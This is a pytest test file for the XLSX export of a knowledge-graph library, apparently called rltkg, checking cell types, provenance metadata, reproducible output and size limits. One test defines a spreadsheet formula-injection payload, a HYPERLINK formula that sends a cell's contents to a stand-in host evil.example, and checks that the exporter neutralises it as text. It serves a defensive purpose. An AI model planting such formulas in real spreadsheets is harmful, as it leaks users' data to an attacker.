"""XLSX, read back by another library: typed cells, text that stays text, and where it all comes from."""

from __future__ import annotations

import io
import sys
import zipfile
from datetime import datetime
from typing import TYPE_CHECKING

import openpyxl
import pytest
from openpyxl.utils.escape import unescape

import rltkg
from rltkg.errors import InputError, UnavailableError
from rltkg.results import workbook as room
from rltkg.results.labelled import spread
from tests.results.asking import answer_over, values_of

if TYPE_CHECKING:
    from pathlib import Path

    from openpyxl.worksheet.worksheet import Worksheet

    from rltkg import KnowledgeGraph
    from rltkg.results import Answer

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def sheet(answer: Answer, name: str = "rows", *, labels: bool = False) -> Worksheet:
    """Return a sheet of the workbook of `answer`."""
    found: Worksheet = openpyxl.load_workbook(io.BytesIO(answer.serialize("xlsx", labels=labels)))[name]
    return found


def column(answer: Answer) -> list[tuple[object, str]]:
    """Return the value and the type of each cell below the head of the first column."""
    return [(cell.value, cell.data_type) for (cell,) in sheet(answer).iter_rows(min_row=2, max_col=1)]


def test_a_formula_in_a_label_of_the_users_file_is_text(tmp_path: Path) -> None:
    path = tmp_path / "own.ttl"
    quoted = EVIL.replace('"', '\\"')
    path.write_text(
        "@prefix rdfs: <http://www.w3.org/2000/01/rdf-schema#> .\n"
        f'<https://w3id.org/rltkg/thing/nice-lymphoma-guideline-2016> rdfs:label "{quoted}"@en .\n',
        encoding="utf-8",
    )
    answer = rltkg.open(extra=path).ask("guidelines_omitting_rlt", indication="lymphoma")
    content = answer.serialize("xlsx", labels=True)
    with zipfile.ZipFile(io.BytesIO(content)) as held:
        parts = {name: held.read(name).decode() for name in held.namelist() if name.endswith((".xml", ".rels"))}
    labels = [row[1] for row in sheet(answer, labels=True).iter_rows(min_row=2)]

    assert (EVIL, "s") in [(cell.value, cell.data_type) for cell in labels]
    assert [cell.quotePrefix for cell in labels if cell.value == EVIL] == [True]
    assert [name for name, text in parts.items() if "<f>" in text or "<hyperlink" in text or "/hyperlink" in text] == []
    assert "'" + EVIL.replace('"', '""') in answer.serialize("csv", labels=True).decode()


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "http://example.org/", "mailto:a@b.c"])
def test_text_is_text_whatever_it_starts_with(text: str) -> None:
    (cell,) = column(values_of(f'"{text}"'.replace("\t", "\\t").replace("\r", "\\r")))

    assert (unescape(str(cell[0])), cell[1]) == (text, "s")


def test_values_keep_their_types() -> None:
    answer = values_of(
        "2019", "-5", "1.5", "1e3", "true", '"2021-09-09"^^xsd:date', '"1899-12-31"^^xsd:date',
        '"2021-09-09T12:00:00Z"^^xsd:dateTime', '"INF"^^xsd:double', "123456789012345", "1234567890123456",
        "0.1234567890123456", '"2019"', '"x"@en', '"=1"^^xsd:integer', "<http://example.org/a>",
    )  # fmt: skip

    assert column(answer) == [
        (2019, "n"), (-5, "n"), (1.5, "n"), (1000, "n"), (True, "b"), (datetime(2021, 9, 9), "d"), ("1899-12-31", "s"),  # noqa: DTZ001
        ("2021-09-09T12:00:00Z", "s"), ("INF", "s"), (123456789012345, "n"), ("1234567890123456", "s"),
        ("0.1234567890123456", "s"), ("2019", "s"), ("x", "s"), ("=1", "s"), ("http://example.org/a", "s"),
    ]  # fmt: skip


def test_every_query_comes_back_as_it_was(graph: KnowledgeGraph) -> None:
    numbers = 0
    for query in graph.catalogue:
        answer = graph.ask(query.id)
        head, *rows = sheet(answer, labels=True).iter_rows(values_only=True)
        wanted = [dict(zip(answer.columns, row, strict=True)) for row in answer.rows]

        assert list(head) == spread(answer), query.id
        assert len(rows) == len(answer)
        for found, terms in zip((dict(zip(head, row, strict=True)) for row in rows), wanted, strict=True):
            for name, term in terms.items():
                text = "" if term is None else term.value
                numbers += isinstance(found[name], int | float)

                assert str("" if found[name] is None else found[name]) == text, (query.id, name)

    assert numbers >= 30


def test_the_second_sheet_tells_where_the_rows_come_from(graph: KnowledgeGraph) -> None:
    answer = graph.ask("guidelines_omitting_rlt", indication=["lymphoma", "prostate cancer"])
    rows = [(name, value) for name, value, *_ in sheet(answer, "about").iter_rows(values_only=True)]
    facts = dict(rows)
    start = [name for name, _ in rows].index("SPARQL")

    assert facts["query"] == "guidelines_omitting_rlt"
    assert facts["question"] == "Which guidelines leave radioligand therapy out, why, and where is that written?"
    assert ("parameter indication", "lymphoma (https://w3id.org/rltkg/thing/lymphoma)") in rows
    assert ("parameter indication", "prostate cancer (https://w3id.org/rltkg/thing/prostate-cancer)") in rows
    assert facts["rows"] == "5"
    assert facts["release"] == rltkg.__version__
    assert facts["digest"] == graph.release.digest
    assert facts["citation"] == answer.citation
    assert "\n".join(value or "" for _, value in rows[start:]).rstrip() == answer.text.rstrip()


def test_an_empty_answer_says_why_on_the_second_sheet(graph: KnowledgeGraph) -> None:
    answer = graph.ask("guidelines_omitting_rlt", indication="nen")
    notes = [row[1] for row in sheet(answer, "about").iter_rows(values_only=True) if row[0] == "note"]

    assert notes == [answer.empty_because, *answer.remarks]
    assert [[cell.value for cell in row] for row in sheet(answer)] == [answer.columns]


def test_the_same_answer_is_the_same_file(graph: KnowledgeGraph) -> None:
    content = graph.ask("figures").serialize("xlsx")

    assert content == graph.ask("figures").serialize("xlsx")
    with zipfile.ZipFile(io.BytesIO(content)) as held:
        assert b">2000-01-01T00:00:00Z<" in held.read("docProps/core.xml"), "the time of writing would differ"
        assert {part.date_time for part in held.infolist()} == {(1980, 1, 1, 0, 0, 0)}


def test_a_text_that_no_cell_holds_is_refused_rather_than_cut() -> None:
    """A spreadsheet counts characters beyond the first plane twice."""
    whole, too_long = values_of('"' + "x" * 32_767 + '"'), values_of("1", '"' + "\U0001f600" * 16_384 + '"')

    assert len(str(column(whole)[0][0])) == 32_767
    with pytest.raises(InputError, match=r"Row 2 has a text of 16,384 characters.*take csv or jsonl"):
        too_long.serialize("xlsx")


def test_more_rows_than_a_sheet_holds_are_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(room, "ROWS", 1)

    assert len(column(values_of("1"))) == 1
    with pytest.raises(InputError, match="A sheet holds 1 rows, and the answer has 2"):
        values_of("1", "2").serialize("xlsx")


def test_a_long_line_of_sparql_is_kept_whole() -> None:
    query = "SELECT ?s WHERE { ?s ?p ?o FILTER(?o != '" + "y" * 40_000 + "') }"
    rows = list(sheet(answer_over(":a :b :c .", query), "about").iter_rows(values_only=True))
    (found,) = [row for row in rows if row[0] == "SPARQL"]

    assert "".join(str(part) for part in found[1:] if part) == query


def test_without_the_library_the_error_says_what_to_install(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "xlsxwriter", None)

    with pytest.raises(UnavailableError, match="pip install XlsxWriter"):
        values_of("1").serialize("xlsx")
